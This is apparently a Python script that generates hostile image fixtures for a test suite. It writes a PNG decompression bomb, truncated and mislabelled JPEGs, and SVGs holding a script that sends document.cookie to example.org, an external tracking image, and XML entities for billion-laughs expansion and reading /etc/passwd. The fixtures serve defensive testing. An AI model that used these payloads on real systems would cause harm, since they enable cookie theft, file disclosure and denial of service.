"""Hostile and broken pictures for the broken corpus (issue 25), byte-stable.

Run: python tests/broken/data/make_pictures.py

- bomb.png: a valid PNG header of 20,000 × 20,000 pixels (400 megapixels; 50 MB of pixels in 49 KB)
- truncated.jpg: the first half of a public-domain JPEG (assets/pictures/grace-hopper.jpg)
- mislabelled.png: a JPEG named .png
- script.svg: an SVG with a <script> and an onload handler
- external.svg: an SVG whose <image> loads a web address (and one a file)
- entity.svg: an SVG that declares entities in a DTD (billion laughs, external entity)
- foreign.svg: an SVG embedding HTML through <foreignObject>
The file size limit is tested with a file made at test time (tests/test_pictures.py): 20 MB is not kept in the repository.
"""
from __future__ import annotations

import struct
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
PHOTO = HERE.parent.parent.parent / "assets" / "pictures" / "grace-hopper.jpg"


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def bomb(side: int = 20_000) -> bytes:
    row = b"\x00" + b"\x00" * (side // 8)  # filter byte, then 1-bit pixels
    z = zlib.compressobj(9)
    body = b"".join(z.compress(row) for _ in range(side)) + z.flush()
    ihdr = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)  # 1-bit greyscale
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", ihdr) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 40">\n{}\n</svg>\n'

FILES = {
    "script.svg": SVG.format('  <rect width="100" height="40" fill="#036"/>\n  <script>fetch("https://example.org/?" + document.cookie)</script>'),
    "external.svg": SVG.format('  <rect width="100" height="40" fill="#036"/>\n  <image xlink:href="https://example.org/track.png" width="10" height="10"/>'),
    "entity.svg": ('<?xml version="1.0"?>\n<!DOCTYPE svg [\n  <!ENTITY a "aaaaaaaaaa">\n  <!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">\n'
                   '  <!ENTITY secret SYSTEM "file:///etc/passwd">\n]>\n'
                   + SVG.format('  <text x="0" y="20">&b;&secret;</text>')),
    "foreign.svg": SVG.format('  <foreignObject width="100" height="40"><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>'),
}


def main() -> None:
    (HERE / "bomb.png").write_bytes(bomb())
    photo = PHOTO.read_bytes()
    (HERE / "truncated.jpg").write_bytes(photo[: len(photo) // 2])
    (HERE / "mislabelled.png").write_bytes(photo)
    for name, text in FILES.items():
        (HERE / name).write_text(text, encoding="utf-8")


if __name__ == "__main__":
    main()
